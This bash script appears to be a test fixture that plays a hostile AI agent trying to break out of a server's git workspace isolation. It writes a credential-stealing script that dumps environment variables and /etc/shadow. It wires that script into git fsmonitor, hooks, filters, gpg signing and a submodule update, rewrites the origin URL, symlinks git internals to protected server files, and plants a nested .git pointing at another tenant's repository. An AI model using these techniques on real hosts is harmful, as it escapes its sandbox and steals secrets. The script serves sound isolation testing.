#!/bin/bash
# hostile-git-agent.sh: a command-driver agent that tries to steer the
# host's git work on its run: what the host does after a step (the
# checkpoint) and at delivery. Arguments as hostile-agent.sh's: the probe
# directory (holding repos/other.git, another tenant's repository), the
# server's data directory, its harness file (beside it victim/, a
# directory of the server's the agent must not reach), a file in its home,
# and a secret of the server's environment.
# "MODE gitattack": a configuration of the agent's own behind commondir
# (a clean filter, signing, fsmonitor and hooks running its program, URL
# rewrites to a repository of its own), alternates, reflogs, object and
# info directories as links to the server's files, refs, HEAD, shallow, a
# FIFO, attributes and modules in the tree, a link to /etc/shadow.
# "MODE gitnested": a nested .git naming another tenant's repository.
probe_dir=$1 data=$2 harness=$3 home_file=$4 secret=$5
req=$(cat)
node=$(printf '%s' "$req" | grep -o '"node":"[a-z]*"' | cut -d'"' -f4)
p() { echo "PROBE $node $1 $2" >&2; }
victim=$(dirname "$harness")/victim
gitdir=$(cd "$(sed -n 's/^gitdir: //p' .git)" 2>/dev/null && pwd)
# The agents' git works in the workspace (its objects are the mirror's,
# shown read-only).
if [ "$(git log -1 --format=%s 2>/dev/null)" = seed ] && git status --porcelain >/dev/null 2>&1; then p gitstatus ok; else p gitstatus failed; fi
objects=$(git rev-parse --git-path objects 2>/dev/null)
mirror=$(cd "$objects" 2>/dev/null && cat info/alternates 2>/dev/null | head -1)
if [ -n "$mirror" ] && touch "$objects/$mirror/intruder" 2>/dev/null; then p mirror writable; else p mirror readonly; fi
case "$req" in
*"MODE gitnested"*)
	mkdir -p vendor/lib
	echo "gitdir: $probe_dir/repos/other.git" > vendor/lib/.git
	echo "package lib" > vendor/lib/code.go
	echo "work by the agent" > work.txt
	p planted nested
	;;
*"MODE gitattack"*)
	evil=$HOME/evil
	mkdir -p "$evil/hooks"
	steal=$evil/steal.sh
	cat > "$steal" <<STEAL
#!/bin/sh
{ id; env; cat /etc/shadow; } >> "$victim/stolen" 2>&1
{ id; env; } > "$PWD/stolen-by-host.txt" 2>&1
cat
STEAL
	chmod 755 "$steal"
	for hook in pre-commit post-commit pre-push reference-transaction post-checkout; do
		printf '#!/bin/sh\n%s </dev/null\n' "$steal" > "$evil/hooks/$hook"
		chmod 755 "$evil/hooks/$hook"
	done
	origin=$(git config --get remote.origin.url)
	git init -q --bare "$evil/evil.git"
	cat > "$evil/config" <<CONF
[core]
	fsmonitor = $steal
	hooksPath = $evil/hooks
[filter "steal"]
	clean = $steal
	smudge = $steal
	required = true
[commit]
	gpgsign = true
[gpg]
	program = $steal
[url "$evil/evil.git"]
	insteadOf = $origin
	pushInsteadOf = $origin
CONF
	echo "$evil" > "$gitdir/commondir"
	printf '[include]\n\tpath = %s\n' "$evil/config" > "$gitdir/config"
	cp "$evil/config" "$gitdir/config.worktree"
	mkdir -p "$gitdir/objects/info"
	ln -sfn "$home_file" "$gitdir/objects/info/alternates"
	ln -sfn "$home_file" "$gitdir/objects/info/http-alternates"
	rm -rf "$gitdir/logs" "$gitdir/info" "$gitdir/objects/ab" "$gitdir/hooks"
	ln -sfn "$victim" "$gitdir/logs"
	ln -sfn "$victim" "$gitdir/info"
	ln -sfn "$victim" "$gitdir/objects/ab"
	ln -sfn "$evil/hooks" "$gitdir/hooks"
	printf '# pack-refs with: peeled\n%s refs/heads/x\n' 1111111111111111111111111111111111111111 > "$gitdir/packed-refs"
	git rev-parse HEAD > "$gitdir/shallow"
	echo "ref: refs/heads/elsewhere" > "$gitdir/HEAD"
	mkfifo "$gitdir/index.lock" pipe
	echo "* filter=steal diff=steal" > .gitattributes
	printf '[submodule "x"]\n\tpath = x\n\turl = %s\n\tupdate = !%s\n' "$evil/evil.git" "$steal" > .gitmodules
	ln -sfn /etc/shadow shadow
	ln -sfn "$home_file" home-note
	echo "work by the agent" > work.txt
	p planted attack
	;;
esac
echo '{"session":"s","text":"null"}'
